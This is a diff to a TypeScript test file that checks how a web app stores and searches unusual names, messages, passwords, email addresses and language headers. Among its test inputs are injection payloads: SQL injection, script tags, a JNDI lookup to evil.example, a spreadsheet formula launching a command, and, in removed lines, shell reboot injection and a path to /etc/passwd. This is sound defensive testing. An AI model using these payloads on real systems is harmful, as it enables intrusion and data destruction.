@@ -1,4 +1,4 @@
-import { describe, expect, test } from 'vitest';
+import { expect, test } from 'vitest';
 import { PASSWORD, RIGHT, world } from './bad-input-world.ts';
 
 /**
@@ -15,23 +15,14 @@ const TEXTS: readonly (readonly [name: string, text: string])[] = [
   ['Arabic and Hebrew', 'مرحبا שלום'],
   ['letters that look like others', 'Аdа Кing'],
   ['noncharacters', 'a\ufffe\uffff\u{10ffff}b'],
-  ['a private character', '\ue000\u{f0000}'],
-  ['a replacement character', 'a\ufffdb'],
   ['a tag of the supplementary plane', 'a\u{e0041}b'],
   ['SQL', `Robert'); drop table lead; --`],
-  ['SQL of another kind', `' or 1=1; select pg_sleep(10) --`],
   ['HTML', '<script>alert("1")</script><img src=x onerror=alert(1)>'],
-  ['a template', '{{7*7}} #{7*7} <%= 7*7 %>'],
   ['a lookup', '$' + '{jndi:ldap://evil.example/a}'],
   ['a formula', '=cmd|"/c calc"!A1'],
   ['a pattern of SQL', '100%_\\'],
-  ['a shell', '$(reboot) `reboot` ; reboot'],
-  ['a format', '%s%n%x%d'],
-  ['a path', '../../../../etc/passwd'],
   ['the names of objects', '__proto__ constructor prototype'],
   ['null as a word', 'null'],
-  ['undefined as a word', 'undefined'],
-  ['a number', '0x1e3'],
   ['quotes', `"'\`´‘’“”`],
   ['backslashes', '\\\\n\\0\\u0000'],
 ];
@@ -47,103 +38,35 @@ const emoji = (count: number) =>
 /** As it is stored (thai.md 9). */
 const stored = (text: string) => text.trim().normalize('NFC');
 
-describe('an odd text is kept as it was sent', () => {
-  test('in a lead, where it can be found again', async () => {
-    const { send, store, tokens } = await world();
-    const headers = { authorization: `Bearer ${tokens.admin}` };
-    for (const [index, [name, text]] of TEXTS.entries()) {
-      const message = `${text}\n\t${text}`;
-      const body = { ...RIGHT.sendLead.body, email: `odd${index}@b.example`, name: text, message };
-      expect([name, (await send('sendLead', { body })).statusCode]).toEqual([name, 201]);
-      const row = await store.db
-        .selectFrom('lead')
-        .select(['name', 'message'])
-        .where('email', '=', body.email)
-        .executeTakeFirstOrThrow();
-      expect([name, row]).toEqual([name, { name: stored(text), message: stored(message) }]);
-      const query = `state=all&search=${encodeURIComponent(text)}`;
-      const found = (await send('inbox', { headers, query })).json();
-      expect([name, found.leads?.map((lead: { email: string }) => lead.email)]).toEqual([
-        name,
-        expect.arrayContaining([body.email]),
-      ]);
-    }
-    expect((await send('inboxCsv', { headers, query: 'state=all' })).statusCode).toBe(200);
-  });
-
-  test('in an account', async () => {
-    const { send } = await world();
-    for (const [index, [name, text]] of TEXTS.entries()) {
-      const who = { email: `odd${index}@b.example`, password: PASSWORD };
-      const made = await send('signup', { body: { ...who, name: text } });
-      expect([name, made.statusCode]).toEqual([name, 200]);
-      const login = await send('login', { body: who });
-      expect([name, login.statusCode]).toEqual([name, 200]);
-      const { firstName, lastName, token } = login.json();
-      expect(`${firstName} ${lastName}`.trim()).toBe(stored(text).replace(/\s+/g, ' '));
-      const headers = { authorization: `Bearer ${token}` };
-      const changed = await send('changeDetails', { headers, body: { lastName: text } });
-      expect([name, changed.statusCode]).toEqual([name, 200]);
-      expect(changed.json().lastName).toBe(stored(text));
-    }
-  });
-});
-
-/** What is pasted along and not seen, as it is stored in one line and in several. */
-const UNSEEN: readonly (readonly [sent: string, line: string, lines: string])[] = [
-  ['a\0b\u0001\u0008\u001b[31mc\u007f\u0080', 'ab[31mc', 'ab[31mc'],
-  ['a\u000bb\fc\u0085d', 'a b c d', 'a\nb\nc\nd'],
-  ['a\u2028b\u2029c', 'a b c', 'a\nb\nc'],
-  ['a\rb\r\nc\td', 'a b c d', 'a\nb\nc\td'],
-  ['a\ud800b\udfffc😀', 'abc😀', 'abc😀'],
-  ['\ufeffกา\u200bแฟ \u2060co\u00adop\u200b', 'กาแฟ coop', 'กาแฟ coop'],
-  ['\u202ea\u202c\u200fb\ufff9c\ufffbd', 'abcd', 'abcd'],
-];
-
-test('what is not seen is dropped, and is no reason to refuse a text', async () => {
-  const { send, store } = await world();
-  for (const [index, [text, name, message]] of UNSEEN.entries()) {
-    const body = { ...RIGHT.sendLead.body, email: `unseen${index}@b.example`, name: text };
-    const answer = await send('sendLead', { body: { ...body, message: text } });
-    expect([text, answer.statusCode]).toEqual([text, 201]);
+test('an odd text is kept as it was sent, and can be found again', async () => {
+  const { send, store, tokens } = await world();
+  const headers = { authorization: `Bearer ${tokens.admin}` };
+  for (const [index, [name, text]] of TEXTS.entries()) {
+    const message = `${text}\n\t${text}`;
+    const body = { ...RIGHT.sendLead.body, email: `odd${index}@b.example`, name: text, message };
+    expect([name, (await send('sendLead', { body })).statusCode]).toEqual([name, 201]);
     const row = await store.db
       .selectFrom('lead')
       .select(['name', 'message'])
       .where('email', '=', body.email)
       .executeTakeFirstOrThrow();
-    expect(row).toEqual({ name, message });
-  }
-});
-
-test('what is not seen does not count as too long', async () => {
-  const { send } = await world();
-  const body = { ...RIGHT.sendLead.body, message: `${'a'.repeat(5000)}${'\u200b'.repeat(100)}` };
-  expect((await send('sendLead', { body })).statusCode).toBe(201);
-});
-
-test('a name of which nothing is seen is none', async () => {
-  const { send } = await world();
-  for (const name of ['\0', '\u200b', '\u200d', '\ufeff \u2028', '\ufe0f']) {
-    const { statusCode, body } = await send('signup', { body: { ...RIGHT.signup.body, name } });
-    expect([name, statusCode, JSON.parse(body).fields]).toEqual([
+    expect([name, row]).toEqual([name, { name: stored(text), message: stored(message) }]);
+    const query = `state=all&search=${encodeURIComponent(text)}`;
+    const found = (await send('inbox', { headers, query })).json();
+    expect([name, found.leads?.map((lead: { email: string }) => lead.email)]).toEqual([
       name,
-      400,
-      { name: { code: 'empty' } },
+      expect.arrayContaining([body.email]),
     ]);
   }
+  expect((await send('inboxCsv', { headers, query: 'state=all' })).statusCode).toBe(200);
 });
 
 const PASSWORDS: readonly (readonly [name: string, password: string])[] = [
   ['spaces around it', '  correct horse  '],
-  ['Thai', 'รหัสผ่านที่ดีมาก'],
   ['marks in their decomposed form', 'cafe\u0301 tre\u0300s sucre\u0301'],
-  ['emoji', '🐎🔋📎🧵🪡🧶🐘🍚'],
   ['the longest, in emoji', emoji(64)],
   ['the longest', many(128)],
   ['control characters', 'correct\u0007\thorse\n'],
-  ['zero-width characters', 'correct\u200bhorse\u200d'],
-  ['SQL', `' or '1'='1' --`],
-  ['a direction override', 'correct\u202ehorse battery'],
 ];
 
 test('an odd password is a password', async () => {
@@ -156,15 +79,8 @@ test('an odd password is a password', async () => {
     expect([name, login.statusCode]).toEqual([name, 200]);
     const headers = { authorization: `Bearer ${login.json().token}` };
     const body = { current: password, password: PASSWORD };
-    const there = await send('changePassword', { headers, body });
-    expect([name, there.statusCode]).toEqual([name, 200]);
-    const back = await send('changePassword', {
-      headers: { authorization: `Bearer ${there.json().token}` },
-      body: { current: PASSWORD, password },
-    });
-    expect([name, back.statusCode]).toEqual([name, 200]);
-    const again = await send('login', { body: { email, password } });
-    expect([name, again.statusCode]).toEqual([name, 200]);
+    const changed = await send('changePassword', { headers, body });
+    expect([name, changed.statusCode]).toEqual([name, 200]);
   }
 });
 
@@ -173,8 +89,6 @@ const WRONG_PASSWORDS: readonly (readonly [name: string, password: string])[] = 
   ['a lone surrogate', 'correct\ud83dhorse'],
   ['more than the right one', `${PASSWORD}\u0301`],
   ['SQL', `' or '1'='1`],
-  ['64 emoji', '🐎'.repeat(64)],
-  ['control characters', '\u0001\u0002\u0003'],
 ];
 
 test('a wrong password that is odd is just wrong', async () => {
@@ -192,44 +106,6 @@ test('a wrong password that is odd is just wrong', async () => {
     }
   }
   expect(await contents()).toEqual(before);
-});
-
-const ADDRESSES: readonly (readonly [sent: string, stored: string])[] = [
-  ["o'hara@b.example", "o'hara@b.example"],
-  ['a+b@b.example', 'a+b@b.example'],
-  ['A_B-c@sub.b.example', 'a_b-c@sub.b.example'],
-  [`${'a'.repeat(64)}@b.example`, `${'a'.repeat(64)}@b.example`],
-  ['x@xn--o3cw4h.example', 'x@xn--o3cw4h.example'],
-  ['x@XN--O3CW4H.xn--o3cw4h', 'x@xn--o3cw4h.xn--o3cw4h'],
-  ['y@ไทย.ไทย', 'y@xn--o3cw4h.xn--o3cw4h'],
-  ['y@Café.example', 'y@xn--caf-dma.example'],
-  ['z@cafe\u0301.example', 'z@xn--caf-dma.example'],
-  // As it is pasted from mail programs, web pages and word processors.
-  ['\u00a0\u200bspaces@b.example\ufeff ', 'spaces@b.example'],
-  ['\u202amarks@b\u00ad.example\u202c', 'marks@b.example'],
-  ['mailto:link@b.example?subject=Hello', 'link@b.example'],
-  ['<brackets@b.example>,', 'brackets@b.example'],
-  ['Ada King <mailto:named@b.example>;', 'named@b.example'],
-  ["'quotes@b.example'", 'quotes@b.example'],
-  ['stop@b.example.', 'stop@b.example'],
-  ['o’shea@my\u2011company.example', "o'shea@my-company.example"],
-  ['ｗｉｄｅ＠ｂ．ｅｘａｍｐｌｅ', 'wide@b.example'],
-];
-
-test('an odd address is an address', async () => {
-  const { send, store } = await world();
-  for (const [email] of ADDRESSES) {
-    const answer = await send('sendLead', { body: { ...RIGHT.sendLead.body, email } });
-    expect([email, answer.statusCode]).toEqual([email, 201]);
-  }
-  const rows = await store.db
-    .selectFrom('lead')
-    .select('email')
-    .orderBy('id')
-    .offset(1)
-    .limit(99)
-    .execute();
-  expect(rows.map(({ email }) => email)).toEqual(ADDRESSES.map(([, stored]) => stored));
 });
 
 test('an account at a Thai domain is one, however its address is spelt', async () => {
@@ -262,16 +138,11 @@ test('an account at a Thai domain is one, however its address is spelt', async (
 });
 
 const LANGUAGES: readonly (readonly [header: string, lang: string])[] = [
-  ['', 'en'],
-  ['*', 'en'],
-  ['th', 'th'],
   ['TH-th;q=0.9, en', 'th'],
-  [';q=1', 'en'],
   ['__proto__', 'en'],
   [Buffer.from('ไทย').toString('latin1'), 'en'],
   [','.repeat(8000), 'en'],
   ['en;q=NaN,th', 'en'],
-  ['../th', 'en'],
 ];
 
 test('an Accept-Language is taken for what can be made of it', async () => {
